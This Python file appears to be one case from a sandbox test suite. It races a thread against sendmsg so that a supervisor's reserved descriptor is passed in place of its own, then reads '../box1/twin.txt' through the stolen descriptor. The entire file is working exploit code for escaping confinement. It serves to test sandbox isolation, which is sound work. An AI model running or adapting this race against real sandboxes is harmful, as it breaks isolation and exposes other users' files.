# SPDX-License-Identifier: Apache-2.0
# attack: a thread changes which descriptor a message carries to the supervisor's, while it is sent within the run
# class: race
# wins: effect leak
# needs: race
# options: --process fork --scratch
from kit import *

import socket
theirs = [n for n in reserved() if n & 0xff > 12][0]  # how many there are depends on the machine
mine = theirs & 0xff
os.dup2(os.open(GOOD, os.O_RDONLY), mine)
known = os.fstat(mine).st_ino
at = page()
ctypes.memmove(at, struct.pack('<QQQQQQQ', 0, 0, at + 64, 1, at + 128, 20, 0), 56)
ctypes.memmove(at + 64, struct.pack('<QQ', at + 192, 1), 16)
ctypes.memmove(at + 128, struct.pack('<Qiii', 20, 1, 1, mine), 20)
a, b = socket.socketpair()
b.settimeout(0.2)
tried()
f = Flipper(at + 128 + 16 + 1, (theirs ^ mine) >> 8)


def one(i):
    if sc('sendmsg', a.fileno(), at, 0) < 0:
        return i > 3000
    for fd in socket.recv_fds(b, 1, 4)[1]:
        st = os.fstat(fd)
        took(openat('../box1/twin.txt', 0, fd))
        os.close(fd)
        if st.st_ino != known:
            effect('%d' % st.st_ino)
            return True
    return not NATIVE and i > 200


rounds(one)
f.end()
